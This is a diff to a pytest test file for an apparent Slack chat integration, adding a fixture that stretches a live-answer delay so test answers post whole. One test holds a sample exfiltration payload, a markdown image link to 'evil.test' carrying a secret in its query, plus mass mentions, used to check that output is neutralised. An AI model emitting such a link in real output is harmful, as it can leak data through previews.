@@ -10,6 +10,7 @@ import httpx2
 import pytest
 from mcp.server.mcpserver import MCPServer
 
+from autonomy.chat.slack import live_answer
 from autonomy.chat.slack.slack_app import SlackAway, SlackServices
 from autonomy.cli.commands import serve
 from autonomy.errors import ConfigError
@@ -28,6 +29,12 @@ async def slack() -> AsyncIterator[Slack]:
     async with Slack() as fake:
         with anyio.fail_after(60):
             yield fake
+
+
+@pytest.fixture
+def answered_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
+    """However long a busy machine takes for an answer, it counts as a quick one, which is posted whole."""
+    monkeypatch.setattr(live_answer, "FIRST_AFTER_S", 3_600.0)
 
 
 def weather(gate: anyio.Event | None = None) -> MCPServer[Any]:
@@ -179,6 +186,7 @@ async def test_whatever_becomes_of_the_stream_the_answer_stands_there_once(slack
 
 @requirement("C6")
 @pytest.mark.parametrize("carried_out", [True, False])
+@pytest.mark.usefixtures("answered_at_once")
 async def test_a_post_whose_answer_is_lost_is_looked_up_before_it_is_sent_again(
     slack: Slack, tmp_path: Path, carried_out: bool
 ) -> None:
@@ -192,6 +200,7 @@ async def test_a_post_whose_answer_is_lost_is_looked_up_before_it_is_sent_again(
 
 
 @requirement("C6")
+@pytest.mark.usefixtures("answered_at_once")
 async def test_an_error_after_which_it_may_have_been_posted_is_looked_up_too(slack: Slack, tmp_path: Path) -> None:
     haruka, general = slack.add_user("haruka"), slack.add_channel("general")
     slack.refuse("chat.postMessage", "fatal_error")
@@ -203,6 +212,7 @@ async def test_an_error_after_which_it_may_have_been_posted_is_looked_up_too(sla
 
 
 @requirement("C6")
+@pytest.mark.usefixtures("answered_at_once")
 async def test_when_nobody_can_tell_whether_it_was_posted_the_request_shows_it(slack: Slack, tmp_path: Path) -> None:
     haruka, general = slack.add_user("haruka"), slack.add_channel("general")
     slack.lose_answer("chat.postMessage")
@@ -218,6 +228,7 @@ async def test_when_nobody_can_tell_whether_it_was_posted_the_request_shows_it(s
     assert len(slack.thread(general, ts)) == 1
 
 
+@pytest.mark.usefixtures("answered_at_once")
 async def test_a_rate_limit_is_waited_out(slack: Slack, tmp_path: Path) -> None:
     haruka, general = slack.add_user("haruka"), slack.add_channel("general")
     slack.rate_limit("chat.postMessage", 10)
@@ -239,6 +250,7 @@ async def test_a_sign_of_life_is_a_reaction_where_there_is_no_status(slack: Slac
 
 
 @requirement("S3", "C6")
+@pytest.mark.usefixtures("answered_at_once")
 async def test_nothing_that_a_tool_or_a_model_says_mentions_pings_or_is_previewed(slack: Slack, tmp_path: Path) -> None:
     haruka, general = slack.add_user("haruka"), slack.add_channel("general")
     evil = "<!channel> <@U1> ![x](https://evil.test/?q=secret) https://evil.test"
@@ -376,6 +388,7 @@ async def test_what_was_said_while_the_socket_was_down_is_answered_after_it_is_b
 
 
 @requirement("C6")
+@pytest.mark.usefixtures("answered_at_once")
 async def test_what_a_process_left_unanswered_the_next_one_answers_once(slack: Slack, tmp_path: Path) -> None:
     haruka, general = slack.add_user("haruka"), slack.add_channel("general")
     slack.refuse("chat.postMessage", "not_in_channel", times=3)
